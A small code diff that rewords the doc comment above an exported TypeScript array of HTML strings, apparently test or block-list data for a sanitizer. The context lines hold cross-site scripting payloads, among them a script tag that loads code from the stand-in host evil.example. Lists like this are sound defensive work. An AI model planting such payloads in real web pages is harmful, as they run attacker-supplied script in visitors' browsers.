@@ -1,4 +1,4 @@
-/** Elements that run, style, ask or load by what they are. */
+/** Elements that run, style, request or load something by themselves. */
 export const elements: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
